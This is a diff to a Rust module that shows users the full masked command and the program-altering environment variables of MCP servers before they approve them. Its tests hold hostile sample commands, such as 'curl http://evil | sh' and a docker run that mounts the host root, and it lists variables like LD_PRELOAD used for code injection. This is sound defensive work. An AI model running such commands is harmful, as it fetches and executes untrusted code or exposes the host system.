@@ -8,11 +8,63 @@ use mcp_startup::config::{Environment, ProcessEnvironment, ServerEntry, Transpor
 use mcp_startup::printable;
 
 use super::Selection;
+use crate::output::suggestions::shell_argument;
 
 const NAME_CHARS: usize = 60;
-const COMMAND_CHARS: usize = 100;
-/// How many shells and other wrappers of a program are shown with their own program.
-const MAX_WRAPPERS: u8 = 3;
+/// The rest of a longer command is counted.
+const COMMAND_CHARS: usize = 1000;
+const PROBLEM_CHARS: usize = 100;
+/// How much of a word [`mcp_startup::masked_command`] returns, in bytes.
+const MASKED_BYTES: usize = 64 * 1024;
+
+/// The variables that change the programs or the libraries that a program runs, in upper case.
+const PROGRAM_VARIABLES: [&str; 32] = [
+    "PATH",
+    "PATHEXT",
+    "COMSPEC",
+    "SHELL",
+    "ENV",
+    "BASH_ENV",
+    "ZDOTDIR",
+    "IFS",
+    "HOME",
+    "NODE_OPTIONS",
+    "NODE_PATH",
+    "BUN_OPTIONS",
+    "PYTHONPATH",
+    "PYTHONHOME",
+    "PYTHONSTARTUP",
+    "PYTHONUSERBASE",
+    "PERL5OPT",
+    "PERL5LIB",
+    "RUBYOPT",
+    "RUBYLIB",
+    "GEM_PATH",
+    "JAVA_TOOL_OPTIONS",
+    "JDK_JAVA_OPTIONS",
+    "_JAVA_OPTIONS",
+    "CLASSPATH",
+    "DOTNET_STARTUP_HOOKS",
+    "PHPRC",
+    "PHP_INI_SCAN_DIR",
+    "GIT_SSH",
+    "GIT_SSH_COMMAND",
+    "GIT_EXEC_PATH",
+    "DOCKER_HOST",
+];
+/// The beginnings of the names of such variables.
+const PROGRAM_PREFIXES: [&str; 10] = [
+    "LD_",
+    "DYLD_",
+    "BASH_FUNC_",
+    "GIT_CONFIG",
+    "NPM_CONFIG_",
+    "PIP_",
+    "UV_INDEX",
+    "UV_DEFAULT_INDEX",
+    "UV_EXTRA_INDEX",
+    "CORECLR_",
+];
 
 /// Asks on a terminal whether these servers may be started, the first time. Returns whether they may.
 pub fn confirm(selection: &Selection, is_confirmed: bool) -> std::io::Result<bool> {
@@ -35,6 +87,9 @@ pub fn confirm(selection: &Selection, is_confirmed: bool) -> std::io::Result<boo
     let mut line = String::new();
     std::io::stdin().lock().read_line(&mut line)?;
     let may_start = matches!(line.trim().to_ascii_lowercase().as_str(), "y" | "yes");
+    if !may_start {
+        writeln!(stderr, "Nothing was started.")?;
+    }
     if let (true, Some(path)) = (may_start, answer) {
         // If the answer can't be stored, the user is asked again.
         let folder = path.parent().map(std::fs::create_dir_all);
@@ -45,7 +100,7 @@ pub fn confirm(selection: &Selection, is_confirmed: bool) -> std::io::Result<boo
     Ok(may_start)
 }
 
-/// Lists the servers by client, each with its program or the host of its URL.
+/// Lists the servers by client, each with its command or the host of its URL.
 pub fn list(selection: &Selection, output: &mut impl Write) -> std::io::Result<()> {
     let mut last: Option<Client> = None;
     for server in &selection.servers {
@@ -64,82 +119,64 @@ fn line(entry: &ServerEntry) -> String {
     let name = printable(&entry.name, NAME_CHARS);
     let how = match &entry.config {
         Ok(config) => match &config.transport {
-            TransportConfig::Stdio(stdio) => {
-                let args: Vec<&str> = stdio.args.iter().map(String::as_str).collect();
-                shown_command(&stdio.command, &args, MAX_WRAPPERS)
-            }
+            TransportConfig::Stdio(_) => command(entry).unwrap_or_default(),
             TransportConfig::Http(http) => {
                 let host = http.url.host_str().unwrap_or_default();
                 let port = http.url.port().map(|port| format!(":{port}"));
-                format!("{host}{}", port.unwrap_or_default())
+                let host = format!("{host}{}", port.unwrap_or_default());
+                printable(&host, PROBLEM_CHARS)
             }
         },
-        Err(problem) => format!("its entry has a problem: {problem}"),
+        Err(problem) => {
+            let problem = format!("its entry has a problem: {problem}");
+            printable(&problem, PROBLEM_CHARS)
+        }
     };
-    format!("{name}  {}", printable(&how, COMMAND_CHARS))
+    format!("{name}  {how}")
 }
 
-/// A program and its arguments. They may contain secrets, so only the first one that does not look like an option or a value is shown,
-/// and for a shell or `env`, the same words of the program that it starts.
-fn shown_command(command: &str, args: &[&str], wrappers: u8) -> String {
-    let name = command.rsplit(['/', '\\']).next().unwrap_or_default();
-    let name = name.strip_suffix(".exe").unwrap_or(name);
-    let is_option = |arg: &&&str| arg.starts_with('-') || arg.starts_with('/');
-    let inner = wrappers.saturating_sub(1);
-    let child = match name {
-        _ if wrappers == 0 => None,
-        "env" => {
-            let program = args.iter().position(|arg| !arg.contains('='));
-            let program = program.filter(|at| !args[*at].starts_with('-'));
-            program.map(|at| shown_command(args[at], &args[at + 1..], inner))
-        }
-        "cmd" => {
-            let options = args.iter().take_while(is_option).count();
-            let program = args.get(options).filter(|_| options > 0);
-            program.map(|program| {
-                format!(
-                    "{} {}",
-                    args[options - 1],
-                    shown_command(program, &args[options + 1..], inner)
-                )
-            })
-        }
-        "sh" | "bash" | "zsh" | "dash" | "ash" | "ksh" | "fish" => {
-            let options = args.iter().take_while(|arg| arg.starts_with('-')).count();
-            let line = args.get(options).filter(|_| {
-                let last = options.checked_sub(1).map(|at| args[at]);
-                last.is_some_and(|option| !option.starts_with("--") && option.ends_with('c'))
-            });
-            line.map(|line| format!("{} {}", args[options - 1], shown_line(line, inner)))
-        }
-        _ => None,
+/// The command line of a server, quoted for a shell, with its secrets masked, and the variables of its entry that change the programs
+/// that it runs. `None` if the entry has no program.
+pub fn command(entry: &ServerEntry) -> Option<String> {
+    let words = mcp_startup::masked_command(entry)?;
+    let TransportConfig::Stdio(stdio) = &entry.config.as_ref().ok()?.transport else {
+        return None;
     };
-    let words = child.or_else(|| {
-        let first = args.iter().find(|arg| !arg.starts_with('-'))?;
-        let is_value = first.contains("://") || first.contains('=');
-        (!is_value).then(|| (*first).to_owned())
-    });
-    match words {
-        Some(words) => format!("{command} {words}"),
-        None => command.to_owned(),
+    let words: Vec<String> = words.iter().map(|word| shell_argument(word)).collect();
+    let line = words.join(" ");
+    let mut shown: String = line.chars().take(COMMAND_CHARS).collect();
+    // Masking cuts off longer texts.
+    let texts = std::iter::once(&stdio.command).chain(&stdio.args);
+    let cut: usize = texts
+        .map(|text| text.len().saturating_sub(MASKED_BYTES))
+        .sum();
+    let more = cut + line.chars().skip(COMMAND_CHARS).count();
+    if more > 0 {
+        shown += &format!(" … ({more} more characters)");
+    }
+    let names = stdio.env.iter().map(|(name, _)| name.as_str());
+    let names: Vec<&str> = names.filter(|name| changes_programs(name)).collect();
+    if !names.is_empty() {
+        shown += &format!(" with {}", printable(&names.join(", "), PROBLEM_CHARS));
+    }
+    Some(shown)
+}
+
+/// The scheme and the host of a server's URL, and its port if it has one. The rest of the URL may have a secret.
+pub fn url(entry: &ServerEntry) -> Option<String> {
+    match &entry.config.as_ref().ok()?.transport {
+        TransportConfig::Http(http) => Some(http.url.origin().ascii_serialization()),
+        TransportConfig::Stdio(_) => None,
     }
 }
 
-/// The line of a shell. Only a line of plain words is shown, because the others can have a secret anywhere.
-fn shown_line(line: &str, wrappers: u8) -> String {
-    let is_plain = |word: &&str| {
-        word.chars()
-            .all(|character| character.is_alphanumeric() || "-_./:@=+,%~\\".contains(character))
-    };
-    let words: Vec<&str> = line.split_whitespace().collect();
-    let words = words.strip_prefix(&["exec"]).unwrap_or(&words);
-    match words.split_first() {
-        Some((first, rest)) if words.iter().all(is_plain) => match first.contains('=') {
-            true => shown_command("env", words, wrappers).replacen("env ", "", 1),
-            false => shown_command(first, rest, wrappers),
-        },
-        _ => "…".to_owned(),
-    }
+/// Whether a variable changes the programs or the libraries that a program runs, or where it downloads them.
+fn changes_programs(name: &str) -> bool {
+    let name = name.to_ascii_uppercase();
+    PROGRAM_VARIABLES.contains(&&*name)
+        || PROGRAM_PREFIXES
+            .iter()
+            .any(|prefix| name.starts_with(prefix))
 }
 
 /// The file that shows that the user has answered: in `$XDG_STATE_HOME` or `~/.local/state`, or in `%LOCALAPPDATA%`.
@@ -157,32 +194,43 @@ fn answer_file() -> Option<PathBuf> {
 
 #[cfg(test)]
 mod tests {
+    use mcp_startup::config::ServerConfig;
+
     use super::*;
 
     #[test]
-    fn a_command_is_shown_without_its_values() {
+    fn the_whole_command_is_shown() {
         #[rustfmt::skip]
-        let rows: &[(&str, &[&str], &str)] = &[
-            ("npx", &["-y", "acme-mcp", "--token", "canary"], "npx acme-mcp"),
-            ("npx", &["--token=canary", "TOKEN=canary", "x"], "npx"),
-            ("curl", &["https://canary@acme.example"], "curl"),
-            ("sh", &["-c", "npx -y acme-mcp --token canary"], "sh -c npx acme-mcp"),
-            ("/bin/bash", &["-lc", "exec uvx acme"], "/bin/bash -lc uvx acme"),
-            ("sh", &["-c", "TOKEN=canary npx acme-mcp"], "sh -c npx acme-mcp"),
-            ("sh", &["-c", "cd /x && TOKEN='canary' npx acme-mcp"], "sh -c …"),
-            ("sh", &["-c", ""], "sh -c …"),
-            ("sh", &["server.sh"], "sh server.sh"),
-            ("sh", &["-c"], "sh"),
-            ("cmd", &["/c", "npx", "-y", "acme-mcp"], "cmd /c npx acme-mcp"),
-            ("cmd.exe", &["/d", "/c", "npx"], "cmd.exe /c npx"),
-            ("env", &["TOKEN=canary", "npx", "acme-mcp"], "env npx acme-mcp"),
-            ("env", &["-u", "A", "npx"], "env A"),
-            ("env", &["TOKEN=canary"], "env"),
-            ("env", &["env", "env", "env", "env", "x"], "env env env env env"),
+        let rows: &[(&str, &[&str], &[&str], &str)] = &[
+            ("bash", &["-lc", "touch RAN; curl http://evil | sh"], &[], "bash -lc 'touch RAN; curl http://evil | sh'"),
+            ("docker", &["run", "--rm", "-i", "-v", "/:/host", "img"], &[], "docker run --rm -i -v /:/host img"),
+            ("env", &["FOO=1", "sh", "-c", "evil"], &[], "env FOO=1 sh -c evil"),
+            ("npx", &["-y", "pkg", "/", ""], &[], "npx -y pkg / ''"),
+            ("python3", &["-m", "mod"], &["LANG"], "python3 -m mod"),
+            ("a b", &["a\u{202e}b"], &["LD_PRELOAD", "A", "Path"], "'a b' $'a\\U0000202eb' with LD_PRELOAD, Path"),
+            ("npx", &["pkg", "--token", "canary"], &["NODE_OPTIONS"], "npx pkg --token '[masked]' with NODE_OPTIONS"),
         ];
-        for (command, args, expected) in rows {
-            let found = shown_command(command, args, MAX_WRAPPERS);
-            assert_eq!(&found, expected, "{args:?}");
+        for (program, args, env, expected) in rows {
+            assert_eq!(&shown(program, args, env), expected);
         }
+    }
+
+    #[test]
+    fn the_end_of_a_long_command_is_counted() {
+        let long = "a".repeat(COMMAND_CHARS);
+        assert_eq!(shown(&long, &[], &[]), long);
+        let found = shown(&long, &["bcd"], &["PATH"]);
+        assert_eq!(found, format!("{long} … (4 more characters) with PATH"));
+        let found = shown("x", &[&"a".repeat(MASKED_BYTES + COMMAND_CHARS)], &[]);
+        let more = MASKED_BYTES + 2;
+        assert!(found.ends_with(&format!("aa … ({more} more characters)")));
+    }
+
+    fn shown(program: &str, args: &[&str], env: &[&str]) -> String {
+        let mut server = ServerConfig::stdio("x", program, args.iter().copied()).unwrap();
+        for name in env {
+            server = server.with_env(name, "s3cret".to_owned()).unwrap();
+        }
+        command(&ServerEntry::from(server)).unwrap()
     }
 }
